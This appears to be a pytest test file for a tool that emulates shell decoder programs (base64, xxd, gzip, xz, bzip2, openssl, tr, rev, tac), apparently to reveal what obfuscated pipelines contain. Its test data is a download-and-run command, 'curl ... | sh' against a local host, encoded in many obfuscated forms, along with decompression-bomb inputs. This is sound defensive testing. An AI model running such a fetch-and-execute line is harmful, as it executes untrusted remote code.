"""Decoder programs of pipelines, done over in Python: compared with the real ones where they are installed."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from esr_tui.divergence.decode import through

PLAIN = b"curl -s http://127.0.0.1:8000/x.sh | sh\nid\n"
B64 = base64.b64encode(PLAIN)


@pytest.mark.parametrize(
    ("line", "data"),
    [
        ("base64 -d", B64),
        ("base64 --decode", base64.encodebytes(PLAIN)),
        ("base64 -di", B64),
        ("base64 -d -", B64),
        ("/usr/bin/base64 -D", B64),
        ("busybox base64 -d", B64),
        ("basenc --base64 -d", B64),
        ("base32 -d", base64.b32encode(PLAIN)),
        ("base32 --decode", base64.b32encode(PLAIN)),
        ("xxd -r -p", PLAIN.hex().encode()),
        ("xxd -p -r", PLAIN.hex(" ").encode()),
        ("xxd -r -ps", PLAIN.hex().upper().encode()),
        ("gunzip", gzip.compress(PLAIN, mtime=0)),
        ("gunzip -c", gzip.compress(PLAIN, mtime=0)),
        ("gzip -d", gzip.compress(PLAIN, mtime=0)),
        ("gzip -dc", gzip.compress(PLAIN, mtime=0)),
        ("gzip --decompress --stdout", gzip.compress(PLAIN, mtime=0)),
        ("zcat", gzip.compress(PLAIN, mtime=0)),
        ("zcat -", gzip.compress(PLAIN, mtime=0)),
        ("xz -d", lzma.compress(PLAIN)),
        ("xz -dc", lzma.compress(PLAIN)),
        ("xzcat", lzma.compress(PLAIN)),
        ("unxz", lzma.compress(PLAIN)),
        ("bzip2 -d", bz2.compress(PLAIN)),
        ("bunzip2", bz2.compress(PLAIN)),
        ("bzcat", bz2.compress(PLAIN)),
        ("openssl base64 -d", base64.encodebytes(PLAIN)),
        ("openssl base64 -d -A", B64),
        ("openssl enc -base64 -d", base64.encodebytes(PLAIN)),
        ("openssl enc -d -a -A", B64),
        ("python3 -m base64 -d", B64),
        ("rev", b"hs | hs.x/0008:1.0.0.721//:ptth s- lruc\ndi\n"),
        ("tac", b"id\ncurl -s http://127.0.0.1:8000/x.sh | sh\n"),
        ("tr N-ZA-Mn-za-m A-Za-z", b"phey -f uggc://127.0.0.1:8000/k.fu | fu\nvq\n"),
        ("tr -d @", b"cu@rl -s http://127.0.0.1:8000/x.sh | sh\nid\n@@"),
        ("busybox tr % /", b"curl -s http:%%127.0.0.1:8000%x.sh | sh\nid\n"),
    ],
)
def test_a_decoder_gives_what_was_encoded(line: str, data: bytes) -> None:
    assert through(line.split(), data) == PLAIN


@pytest.mark.parametrize(
    "line",
    [
        "", "busybox", "cat", "sh", "base64", "base64 -w0", "base64 -d file", "base32", "xxd", "xxd -p",
        "xxd -r -p file",
        "gzip", "gzip -9", "gunzip file.gz", "zcat a.gz b.gz", "xz", "xz -T0", "bzip2 -9", "rev file", "tac -s x",
        "tac file",
        "tr a", "tr", "tr a b c", "tr -x a b", "tr z-a a", "openssl", "openssl enc -aes-256-cbc -d -a -k x",
        "openssl base64", "openssl base64 -d -in file", "openssl rsa -pubin", "sed s/a/b/", "cut -c1",
        "python3 -m json.tool",
    ],
)  # fmt: skip
def test_what_is_no_pure_decoder_gives_none(line: str) -> None:
    assert through(line.split(), B64) is None


def test_damaged_and_cut_input_gives_what_could_be_decoded() -> None:
    assert through(["base64", "-d"], B64[:17]) == PLAIN[:12]
    assert through(["base64", "-d"], B64[:16] + b"!rest") == PLAIN[:12]
    assert through(["base64", "-di"], B64[:5] + b"!!" + B64[5:]) == PLAIN
    text = b"".join(b"line %d\n" % n for n in range(9000))
    packed = gzip.compress(text, mtime=0)
    out = through(["gunzip"], packed[: len(packed) // 2])
    assert out and text.startswith(out) and len(out) > 1000
    assert through(["gunzip"], b"no gzip at all") == b""


@pytest.mark.parametrize(
    ("program", "bomb"),
    [
        ("gunzip", gzip.compress(bytes(64 << 20), 9, mtime=0)),
        ("unxz", lzma.compress(bytes(64 << 20), preset=0)),
        ("bunzip2", bz2.compress(bytes(64 << 20))),
    ],
)
def test_a_bomb_is_cut(program: str, bomb: bytes) -> None:
    out = through([program], bomb)
    assert out is not None and 0 < len(out) <= 1 << 20


REAL = [
    ["base64", "-d"], ["base64", "-di"], ["base32", "-d"], ["rev"], ["tac"], ["tr", "a-z", "n-za-m"],
    ["tr", "-d", "[:space:]"],
    ["tr", "-s", "[:lower:]"], ["tr", "-cd", "A-Za-z\\n"], ["tr", "[:lower:]", "[:upper:]"],
    ["tr", "\\141-\\143", "xy"],
    ["tr", "-c", "a-z", "_"], ["tr", "-s", "a-f", "A-C"],
]  # fmt: skip


def _real(argv: list[str], data: bytes) -> bytes:
    return subprocess.run(
        argv, input=data, capture_output=True, check=False, env={"LC_ALL": "C.UTF-8"}
    ).stdout


HEX = PLAIN.hex().encode()
INPUTS = [B64, B64 + b"\n", base64.b32encode(PLAIN), PLAIN, b"aabbccddee ffgg\n\nabc", HEX]
# xxd resynchronises on damaged input in a way of its own: it is compared on what it writes itself.
COMPARED = [(argv, data) for argv in REAL for data in INPUTS] + [(["xxd", "-r", "-p"], HEX)]


@pytest.mark.parametrize(("argv", "data"), COMPARED)
def test_the_real_program_agrees(argv: list[str], data: bytes) -> None:
    path = shutil.which(argv[0])
    if path is None:
        pytest.skip(f"{argv[0]} is not installed here")
    assert through(argv, data) == _real([path, *argv[1:]], data)


PROGRAMS = "base64 base32 basenc xxd gunzip gzip xz bzip2 rev tac tr openssl busybox python3".split()
OPTIONS = "-d -r -p -dc --decode -a a-z [:alpha:] [x*3] \\n -cs".split()


@given(st.lists(st.text(max_size=12), max_size=5), st.binary(max_size=200), st.sampled_from(PROGRAMS))
def test_it_never_raises(arguments: list[str], data: bytes, program: str) -> None:
    out = through([program, *arguments], data)
    assert out is None or isinstance(out, bytes)


@given(st.sampled_from(OPTIONS), st.binary(max_size=99))
def test_options_never_raise(option: str, data: bytes) -> None:
    for program in ("base64", "base32", "xxd", "gzip", "xz", "bzip2", "rev", "tac", "tr"):
        through([program, option], data)
        through([program, option, "A-Z"], data)
